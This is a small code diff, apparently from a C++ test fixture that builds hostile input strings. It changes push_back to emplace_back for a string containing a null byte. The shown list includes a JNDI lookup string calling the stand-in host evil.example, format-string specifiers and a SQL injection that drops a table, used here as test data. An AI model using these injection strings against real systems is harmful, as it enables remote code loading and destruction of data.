@@ -50,7 +50,7 @@ inline constexpr char kHarm[] = "EVIL7";
       "${jndi:ldap://evil.example} %s%n {} {0}",
       "'; DROP TABLE entries; --",
   };
-  texts.push_back(std::string("零\0字节", 10));
+  texts.emplace_back("零\0字节", 10);
   for (std::string& text : texts) text += " 3个";
   for (std::string& text : texts) text += kHarm;
   return texts;
